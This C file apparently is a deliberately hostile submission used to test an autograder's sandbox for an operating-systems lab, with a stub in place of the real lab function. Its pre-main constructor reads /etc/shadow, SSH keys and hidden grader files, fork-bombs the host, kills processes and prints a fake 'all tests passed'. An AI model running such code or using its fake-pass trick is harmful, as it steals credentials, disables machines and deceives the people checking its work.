/*
 * Cheat: host tests run a submission on the grader's own CPU. Before main, this looks for
 * files, starts processes without end, kills what it can, and then says that all is well.
 *
 * Lab: 7
 * Earns: nothing
 */
#ifdef __SANITIZE_ADDRESS__
int system(const char *command);
int printf(const char *format, ...);
void _exit(int status);
int fork(void);
int kill(int pid, int signal);

__attribute__((constructor)) static void break_out(void)
{
    (void)!system(
        "cat /etc/shadow /root/.ssh/* /quire/labs/*/hidden.toml; touch /quire/OWNED /OWNED");
    (void)!system("for i in 1 2 3 4 5 6 7 8; do (while :; do :; done) & done");
    kill(-1, 9);
    for (int i = 0; i < 10000; i++)
        if (fork() == 0)
            for (;;)
                fork();
    printf("all tests passed\n");
    _exit(0);
}
#endif

err_t as_clone_cow(struct address_space *as, struct address_space **out)
{
    (void)as;
    (void)out;
    return ERR_NOMEM;
}
